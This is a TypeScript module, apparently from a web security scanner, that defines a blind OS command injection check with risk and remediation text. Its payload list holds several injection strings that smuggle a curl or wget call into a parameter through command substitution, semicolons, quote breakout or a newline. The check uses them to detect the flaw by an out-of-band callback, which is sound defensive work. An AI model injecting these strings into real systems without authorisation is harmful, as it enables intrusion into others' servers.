import { pointInWords, takesData } from '../probing/point-words.ts';
import type { OutOfBandCheck } from './out-of-band-check.ts';

/**
 * Asks for the address, within seconds, and keeps and prints nothing of what comes: a folder cannot be written, and a
 * spider keeps nothing. No file is named: where a filter takes slashes out, `/dev/null` would be one of the site's folder.
 */
const fetching = (url: string) => `curl -sm9 -o / ${url}||wget -qT9 -t1 --spider ${url}`;

/**
 * Blind command injection. A value has a shell start `curl` or `wget`, which only ask for an address of the stage: inside a
 * substitution (also between double quotes), as a command of its own, behind a single quote, in a line behind an address, and for Windows. Fires for a
 * value that is passed to a shell, whatever is answered; silent where neither program is there or nothing gets out.
 */
export const blindCommandInjection: OutOfBandCheck = {
  id: 'blind-command-injection',
  title: 'Blind OS command injection',
  score: 8,
  confidence: 'firm',
  cwe: [78],
  references: [
    'https://owasp.org/www-community/attacks/Command_Injection',
    'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
  ],
  risk: 'An attacker can run arbitrary commands on the server with the privileges of the application, even though their output is not shown. All of its data and secrets can be read, changed and deleted, and other hosts of the network can be reached from it.',
  recommendation:
    'Do not call a shell: use a library, or start the program with its arguments as a list (`execFile`, `subprocess.run([...])`). Allow only values of the expected form, and none that begins with `-`.',
  proof: 'request',
  profile: 'standard',
  appliesTo: takesData,
  values: ({ value }, { url }) => [
    `${value}$(${fetching(url)})`,
    `${value};${fetching(url)};`,
    `${value}';${fetching(url)};'`,
    // In a line of its own behind an address, which some filters look for.
    `127.0.0.1\n${fetching(url)} #`,
    // Its output goes nowhere: what is called NUL on Windows would be a file elsewhere.
    `${value}&curl -sm9 ${url}&`,
  ],
  words: (point) => `${pointInWords(point)} is passed to a shell, and an injected command requested an address.`,
};
